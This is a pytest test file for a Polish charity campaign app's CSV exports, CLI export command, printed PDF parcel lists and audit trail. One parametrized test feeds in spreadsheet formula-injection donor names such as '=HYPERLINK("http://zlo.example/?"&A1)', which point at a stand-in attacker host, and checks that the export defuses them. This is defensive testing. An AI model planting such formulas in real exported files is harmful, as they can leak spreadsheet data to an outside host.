"""CSV exports open cleanly in Excel; the printed list carries what the table needs."""

import csv
import io
from pathlib import Path

import pytest
from pypdf import PdfReader

from campaign.core.clock import today
from campaign.letters.models import LetterStatus
from campaign.parcels.services import receive_parcel
from tests.conftest import login
from tests.parcels.parcel_helpers import events

WISH = "Książka o żółwiach, ciepły szalik i łyżwy — „zielone”"


@pytest.fixture
def coordinator(make_user):
    return make_user("coordinator")


@pytest.fixture
def data(make_center, make_user, make_letter, coordinator):
    north, south = make_center(), make_center()
    donor = make_user("donor", display_name="Łucja", email="lucja@example.org")
    claimed = make_letter(LetterStatus.CLAIMED, donor=donor, center=north, wish=WISH)
    received = make_letter(
        LetterStatus.CLAIMED, donor=make_user(display_name="=HYPERLINK()"), center=south
    )
    receive_parcel(coordinator, received, "damaged", "Zgnieciony róg")
    available = make_letter(LetterStatus.AVAILABLE, center=south, case_reference="TAJNE/1")
    return {
        "north": north,
        "south": south,
        "claimed": claimed,
        "received": received,
        "available": available,
    }


def read_csv(raw: bytes) -> list[dict]:
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    text = raw.decode("utf-8-sig")
    assert "\r\n" in text
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_letters_csv_round_trips_polish_letters_and_keeps_the_case_reference_out(
    client, coordinator, data
):
    login(client, coordinator)
    response = client.get("/koordynacja/eksport/letters.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = read_csv(response.data)
    assert {row["kod"] for row in rows} == {
        data[k].display_code for k in ("claimed", "received", "available")
    }
    [row] = [r for r in rows if r["kod"] == data["claimed"].display_code]
    assert row["marzenie"] == WISH and row["płeć"] == "f"
    assert "TAJNE/1" not in response.data.decode("utf-8-sig")


def test_claims_csv_carries_the_donors_contact_for_coordinators(client, coordinator, data):
    login(client, coordinator)
    rows = read_csv(client.get("/koordynacja/eksport/claims.csv").data)
    [row] = [r for r in rows if r["kod"] == data["claimed"].display_code]
    assert (row["darczyńca"], row["kontakt"], row["status"]) == (
        "Łucja",
        "lucja@example.org",
        "active",
    )


def test_a_name_that_looks_like_a_formula_is_defused(client, coordinator, data):
    login(client, coordinator)
    rows = read_csv(client.get("/koordynacja/eksport/claims.csv").data)
    [row] = [r for r in rows if r["kod"] == data["received"].display_code]
    assert row["darczyńca"] == "'=HYPERLINK()"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_character_a_spreadsheet_starts_a_formula_with_is_defused(
    client, coordinator, make_user, make_letter, start
):
    name = f'{start}HYPERLINK("http://zlo.example/?"&A1)'
    letter = make_letter(LetterStatus.CLAIMED, donor=make_user(display_name=name))
    login(client, coordinator)

    rows = read_csv(client.get("/koordynacja/eksport/claims.csv").data)

    [row] = [r for r in rows if r["kod"] == letter.display_code]
    assert row["darczyńca"] == "'" + name


def test_parcels_csv_per_centre(client, coordinator, data):
    login(client, coordinator)
    south = data["south"].number
    rows = read_csv(client.get(f"/koordynacja/eksport/parcels.csv?center={south}").data)
    assert [r["kod"] for r in rows] == [data["received"].display_code]
    assert (rows[0]["stan"], rows[0]["uwagi"]) == ("damaged", "Zgnieciony róg")
    assert "lucja@example.org" not in str(rows)
    north = data["north"].number
    assert read_csv(client.get(f"/koordynacja/eksport/parcels.csv?center={north}").data) == []


@pytest.mark.parametrize(
    "path", ["/koordynacja/eksport/nic.csv", "/koordynacja/eksport/letters.csv?center=999"]
)
def test_unknown_export_or_centre_is_404(client, coordinator, data, path):
    login(client, coordinator)
    assert client.get(path).status_code == 404


def test_cli_export_writes_the_same_csv(client, runner, coordinator, data, tmp_path):
    login(client, coordinator)
    web = client.get("/koordynacja/eksport/claims.csv").data
    output = tmp_path / "claims.csv"
    result = runner.invoke(args=["export", "--kind", "claims", "--output", str(output)])
    assert result.exit_code == 0, result.output
    assert output.read_bytes() == web


def test_cli_export_to_stdout_for_one_centre_and_campaign(runner, data):
    campaign = data["claimed"].campaign
    result = runner.invoke(
        args=[
            "export",
            "--kind",
            "letters",
            "--campaign",
            campaign.code_prefix,
            "--center",
            str(data["north"].number),
        ]
    )
    assert result.exit_code == 0, result.output
    rows = read_csv(result.stdout_bytes)
    assert [r["kod"] for r in rows] == [data["claimed"].display_code]


def test_cli_export_refuses_an_unknown_campaign(runner, data):
    result = runner.invoke(args=["export", "--kind", "letters", "--campaign", "NIEMA"])
    assert result.exit_code != 0
    assert "No campaign" in result.output


def test_printed_list_shows_the_points_parcels_with_deadline_status_condition(
    client, make_user, data
):
    worker = make_user("social_worker", center=data["south"])
    login(client, worker)
    response = client.get(f"/koordynacja/lista/{data['south'].number}.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    reader = PdfReader(io.BytesIO(response.data))
    text = "".join(page.extract_text() for page in reader.pages)
    assert data["received"].display_code in text
    assert data["claimed"].display_code not in text  # another point's parcel
    assert "uszkodzona" in text and "paczka przyjęta" in text
    assert "Paczki oczekiwane w punkcie" in reader.metadata.title


def test_printed_list_of_another_centre_is_404_for_a_social_worker(client, make_user, data):
    login(client, make_user("social_worker", center=data["south"]))
    assert client.get(f"/koordynacja/lista/{data['north'].number}.pdf").status_code == 404


def test_printed_list_of_a_centre_with_markup_characters_in_its_name(
    client, coordinator, make_center, make_campaign, make_letter, make_user
):
    center = make_center(name="Centrum <b>A & B", address="ul. Mała 1 & 2 <lokal 3>")
    campaign = make_campaign(name="Akcja <2026> & przyjaciele")
    letter = make_letter(LetterStatus.CLAIMED, center=center, donor=make_user(), campaign=campaign)
    login(client, coordinator)
    response = client.get(
        f"/koordynacja/lista/{center.number}.pdf",
        query_string={"campaign": campaign.code_prefix},
    )
    assert response.status_code == 200
    text = " ".join(
        page.extract_text() for page in PdfReader(io.BytesIO(response.data)).pages
    ).replace("\n", " ")
    assert "Centrum <b>A & B" in text
    assert "ul. Mała 1 & 2 <lokal 3>" in text
    assert "Akcja <2026> & przyjaciele" in text
    assert letter.display_code in text


def test_cli_export_without_kind_writes_all_three_into_a_directory(runner, data, tmp_path):
    campaign = data["claimed"].campaign
    target = tmp_path / "eksport"
    result = runner.invoke(args=["export", "--output", str(target)])
    assert result.exit_code == 0, result.output
    prefix = campaign.code_prefix.lower()
    expected = [target / f"{prefix}-{kind}.csv" for kind in ("letters", "claims", "parcels")]
    assert result.stdout.split() == [str(path) for path in expected]
    letters, claims, parcels = (read_csv(path.read_bytes()) for path in expected)
    assert len(letters) == 3 and len(claims) == 2
    assert [r["kod"] for r in parcels] == [data["received"].display_code]


def test_cli_export_without_kind_or_output_goes_to_the_instance_folder(app, runner, data, tmp_path):
    campaign = data["claimed"].campaign
    app.instance_path = str(tmp_path / "instance")
    result = runner.invoke(args=["export", "--center", str(data["south"].number)])
    assert result.exit_code == 0, result.output
    folder = f"{campaign.code_prefix.lower()}-{today().isoformat()}"
    paths = result.stdout.split()
    assert len(paths) == 3
    for path in paths:
        assert path.startswith(f"{app.instance_path}/exports/{folder}/")
        assert path.endswith(f"-cps{data['south'].number}.csv")
    assert read_csv(Path(paths[0]).read_bytes())


def test_cli_export_refuses_a_file_as_the_directory(runner, data, tmp_path):
    taken = tmp_path / "plik"
    taken.write_text("zajęte")
    result = runner.invoke(args=["export", "--output", str(taken)])
    assert result.exit_code != 0
    assert "not a directory" in result.output
    assert taken.read_text() == "zajęte"


def _audit_page(client) -> str:
    """The audit trail as a coordinator sees it."""
    return client.get("/koordynacja/dziennik").get_data(as_text=True)


@pytest.mark.parametrize("kind", ["letters", "claims", "parcels"])
def test_a_web_export_is_written_to_the_audit_trail(client, coordinator, data, kind):

    login(client, coordinator)
    number, prefix = data["north"].number, data["claimed"].campaign.code_prefix
    response = client.get(f"/koordynacja/eksport/{kind}.csv?center={number}&campaign={prefix}")
    assert response.status_code == 200
    [event] = events("export.csv")
    assert event.actor_id == coordinator.id
    assert event.data == {"kind": kind, "campaign": prefix, "center": number}
    page = _audit_page(client)
    assert "eksport CSV" in page and f"CPS {number}" in page and f"kampania {prefix}" in page


def test_a_cli_export_is_written_to_the_audit_trail_without_an_actor(runner, data, tmp_path):

    result = runner.invoke(args=["export", "--output", str(tmp_path)])
    assert result.exit_code == 0, result.output
    recorded = events("export.csv")
    assert sorted(e.data["kind"] for e in recorded) == ["claims", "letters", "parcels"]
    assert all(e.actor_id is None and e.data["center"] is None for e in recorded)


def test_printing_a_parcel_list_is_written_to_the_audit_trail(client, coordinator, make_user, data):

    worker = make_user("social_worker", center=data["south"], email="druk@example.org")
    login(client, worker)
    assert client.get(f"/koordynacja/lista/{data['south'].number}.pdf").status_code == 200
    [event] = events("print.parcel_list")
    assert event.actor_id == worker.id
    prefix = data["claimed"].campaign.code_prefix
    assert event.data == {"campaign": prefix, "center": data["south"].number}
    login(client, coordinator)
    page = _audit_page(client)
    assert "wydruk listy paczek" in page and "druk@example.org" in page
